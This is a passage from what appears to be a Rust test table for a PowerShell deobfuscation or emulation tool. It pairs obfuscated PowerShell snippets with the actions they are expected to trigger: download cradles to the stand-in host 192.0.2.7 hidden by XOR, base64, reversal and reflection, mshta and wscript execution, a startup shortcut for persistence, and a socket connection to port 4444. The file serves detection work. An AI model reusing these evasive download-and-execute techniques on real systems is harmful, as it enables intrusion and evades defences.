        "$b=[Convert]::FromBase64String('Cgc=');$k='key';$u='';$b | % -Begin {$i=0} -Process {$u+=[char]($_ -bxor [int]$k[$i++ % $k.Length])};irm \"http://192.0.2.7/$u\"",
        &["fetch http://192.0.2.7/ab"],
    ),
    (
        "expanded text",
        "$x='192.0.2.7';irm $ExecutionContext.InvokeCommand.ExpandString('http://$x/a')",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "do until",
        r#"$i=0;do{irm "http://192.0.2.7/$i";$i++}until($i -ge 2)"#,
        &["fetch http://192.0.2.7/0", "fetch http://192.0.2.7/1"],
    ),
    (
        "vbscript on disk",
        r#"'CreateObject("WScript.Shell").Run "calc"' | Out-File -Encoding ascii $env:TEMP\x.vbs; wscript $env:TEMP\x.vbs"#,
        &[
            r"write C:\Users\k.tanaka\AppData\Local\Temp\x.vbs 42",
            r"run wscript C:\Users\k.tanaka\AppData\Local\Temp\x.vbs",
            "run calc",
        ],
    ),
    (
        "jscript on disk under another name",
        r#"Set-Content C:\x.log 'new ActiveXObject("WScript.Shell").Run("http://192.0.2.7/".concat("a"))'; cscript //nologo //e:jscript C:\x.log"#,
        &[r"write C:\x.log 73", r"run cscript //nologo //e:jscript C:\x.log", "run http://192.0.2.7/a"],
    ),
    (
        "mshta with both languages",
        r#"mshta 'vbscript:CreateObject("WScript.Shell").Run("ca" & "lc")(window.close)'; mshta "javascript:new ActiveXObject('WScript.Shell').Run('no'+'tepad');close()""#,
        &[
            r#"run mshta "vbscript:CreateObject(\"WScript.Shell\").Run(\"ca\" & \"lc\")(window.close)""#,
            "evaluate vbscript",
            "run calc",
            r#"run mshta "javascript:new ActiveXObject('WScript.Shell').Run('no'+'tepad');close()""#,
            "evaluate javascript",
            "run notepad",
        ],
    ),
    (
        "a class with a constructor, methods and static members",
        r#"
enum Kind { First; Second = 5; Third }
class Base {
  [string]$host = '192.0.2.7'
  hidden [int]$port
  Base([int]$port) { $this.port = $port }
  [string] Url([string]$path) { "noise"; return "http://$($this.host):$($this.port)/$path" }
}
class Loader : Base, System.IDisposable {
  static [string]$name = "a" + "b"
  [System.Collections.ArrayList]$parts = @()
  Loader() : base(8080) { $this.parts = 1,2 }
  Loader([string]$x) : base(80) { }
  static [string] Decode([string]$text) {
    $out = ''
    foreach ($c in $text.ToCharArray()) { $out += [char]([int]$c - 1) }
    return $out
  }
  [void] Go() {
    foreach ($part in $this.parts) { Invoke-WebRequest ($this.Url("$([Loader]::name)$part")) -OutFile "C:\x$part" }
    [Loader]::name = 'z'
  }
  [void] Dispose() { iex ([Loader]::Decode('jxs!iuuq;002:3/1/3/8')) }
}
$l = [Loader]::new()
$l.Go()
$m = New-Object Loader -ArgumentList 'x'
iwr ($m.Url([Loader]::name + [Kind]::Third))
$m.Dispose()
"#,
        &[
            r"fetch http://192.0.2.7:8080/ab1 to C:\x1",
            r"fetch http://192.0.2.7:8080/ab2 to C:\x2",
            "fetch http://192.0.2.7:80/z6",
            "evaluate powershell",
            "fetch http://192.0.2.7",
        ],
    ),
    (
        "a decoder that calls itself",
        r"function d($s){if($s.Length -eq 0){return ''};return [string][char]([int]$s.Substring(0,3)-7)+(d $s.Substring(3))};iex (d ('112126121039111123123119065054054056064057053055053057053062054'+'104'*80))",
        &[
            "evaluate powershell",
            "fetch http://192.0.2.7/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        ],
    ),
    (
        "shortcut in startup",
        r#"$s=(New-Object -ComObject WScript.Shell).CreateShortcut("$env:APPDATA\a.lnk");$s.TargetPath='mshta.exe';$s.Arguments='http://192.0.2.7/a';$s.Save()"#,
        &[r"set shortcut C:\Users\k.tanaka\AppData\Roaming\a.lnk = mshta.exe http://192.0.2.7/a", "fetch http://192.0.2.7/a"],
    ),
    (
        "a switch cut short",
        r"iwr -useb http://192.0.2.7/a -outf c:\a.exe",
        &[r"fetch http://192.0.2.7/a to c:\a.exe"],
    ),
    (
        "bytes into begin and process",
        "$b=[Convert]::FromBase64String('AwE=');$u='http://192.0.2.7/';$b | % -Begin { $i=0 } -Process { $u+=[char]($_ -bxor [int]'bb'[$i++ % 2]) };irm $u",
        &["fetch http://192.0.2.7/ac"],
    ),
    (
        "expanded text",
        "$u='http://192.0.2.7/a';irm $ExecutionContext.InvokeCommand.ExpandString('$u')",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "method by name",
        "$w=New-Object Net.WebClient;$w.PsObject.Methods['DownloadString'].Invoke('http://192.0.2.7/a')",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "method by reflection",
        "$w=New-Object Net.WebClient;$w.GetType().GetMethod('DownloadString',[type[]]@([string])).Invoke($w,@('http://192.0.2.7/a'))",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "command put together",
        "[void][powershell]::Create().AddCommand('irm').AddParameter('Uri','http://192.0.2.7/a').Invoke()",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "end point",
        "$e=New-Object Net.IPEndPoint([Net.IPAddress]::Parse('192.0.2.7'),4444);$s=[Net.Sockets.Socket]::new('InterNetwork','Stream','Tcp');$s.Connect($e)",
        &["connect 192.0.2.7 4444"],
    ),
    (
        "URL put together",
        "irm (New-Object UriBuilder('http','192.0.2.7',8080,'/a')).Uri",
        &["fetch http://192.0.2.7:8080/a"],
    ),
    (
        "web socket",
        "$w=New-Object Net.WebSockets.ClientWebSocket;$w.ConnectAsync('wss://c.example/a',$null).Wait()",
        &["fetch wss://c.example/a"],
    ),
    (
        "member by reflection",
        "[Net.WebClient].InvokeMember('DownloadString','InvokeMethod',$null,(New-Object Net.WebClient),@('http://192.0.2.7/a'))",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "reversed by a query",
        "irm (-join [Linq.Enumerable]::Reverse([char[]]'a/7.2.0.291//:ptth'))",
        &["fetch http://192.0.2.7/a"],
    ),
];
